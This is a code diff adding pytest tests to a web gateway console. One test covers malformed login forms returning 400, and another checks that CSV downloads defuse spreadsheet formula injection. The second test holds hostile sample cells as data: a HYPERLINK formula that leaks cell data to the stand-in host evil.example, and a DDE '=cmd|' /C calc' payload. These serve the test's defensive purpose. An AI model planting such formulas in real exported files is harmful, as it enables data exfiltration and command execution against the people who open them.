@@ -203,6 +203,27 @@ async def test_cross_site_requests_are_refused(world: tuple[Gateway, str]) -> No
             assert r.status == 200  # the session was not ended by the refused logout
 
 
+MULTIPART = "multipart/form-data; boundary=b"
+
+
+@pytest.mark.parametrize(("body", "ctype"), [
+    (b"--b\r\ngarbage", MULTIPART),  # a part whose headers do not parse: was a 500
+    (b'--b\r\nContent-Disposition: form-data; name="token"\r\n\r\nunterminated', MULTIPART),
+    (b"\xff\xfe", "application/x-www-form-urlencoded"),
+])
+async def test_a_malformed_login_form_is_a_clear_400_never_a_500(
+    world: tuple[Gateway, str], body: bytes, ctype: str
+) -> None:
+    _, url = world
+    async with aiohttp.ClientSession() as s, s.post(
+        url + "/console/login", data=body, allow_redirects=False,
+        headers={"Content-Type": ctype, "Origin": url},
+    ) as r:
+        assert r.status == 400, await r.text()
+        assert "login form" in (await r.json())["error"]
+        assert COOKIE_NAME not in r.cookies
+
+
 async def test_without_a_token_the_console_is_off_and_metrics_stay_on_loopback(tmp_path: Path) -> None:
     gw = await start_gateway(tmp_path / "gw")
     try:
@@ -355,6 +376,35 @@ async def test_agent_page_series_top_and_query_agree_with_the_store(world: tuple
             assert "attachment" in r.headers["Content-Disposition"]
             rows = list(csv.reader(io.StringIO(await r.text())))
         assert rows == [["agent", "bytes"], ["site-1", "1000"], ["site-1", "1000"], ["site-1", "1000"]]
+
+
+async def test_csv_download_defuses_spreadsheet_formulas_and_keeps_numbers(
+    world: tuple[Gateway, str],
+) -> None:
+    """OWASP "CSV Injection": a text cell starting with =, +, -, @, tab or CR is run as a formula by Excel and
+    LibreOffice; the download prefixes it with a single quote (shown as text, not run). Numbers, negative ones
+    too, stay numbers; other text is unchanged. Column names (any alias the operator's SQL gives) as well."""
+    _, url = world
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+               "\r=1+1", "plain", "a=b", "1-2"]
+    cells = ", ".join(f"'{h}' AS c{i}".replace("'\t", "chr(9) || '").replace("'\r", "chr(13) || '")
+                      for i, h in enumerate(hostile))
+    sql = f"SELECT {cells}, -5 AS neg, -1.5 AS f, 42 AS n, '' AS e, NULL AS z, 7 AS \"=cmd|' /C calc'!A0\""
+    async with aiohttp.ClientSession() as s:
+        c = await session(s, url)
+        async with s.get(url + "/console/api/query", cookies=c,
+                         params={"mode": "sql", "q": sql, "format": "csv"}) as r:
+            assert r.status == 200, await r.text()
+            text = await r.text()
+        status, doc = await get(s, url + "/console/api/query", c, mode="sql", q=sql)
+    assert status == 200, doc
+    header, row = list(csv.reader(io.StringIO(text, newline="")))
+    assert header[-1] == "'=cmd|' /C calc'!A0"
+    assert header[:-1] == [f"c{i}" for i in range(len(hostile))] + ["neg", "f", "n", "e", "z"]
+    assert row[:6] == ["'" + v for v in doc["rows"][0][:6]]
+    assert row[6:] == ["plain", "a=b", "1-2", "-5", "-1.5", "42", "", "", "7"]
+    assert doc["rows"][0][:6] == ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)",
+                                  "\t=1+1", "\r=1+1"]  # the JSON (the page's table) is as stored
 
 
 @pytest.mark.parametrize(("params", "status", "needle"), [
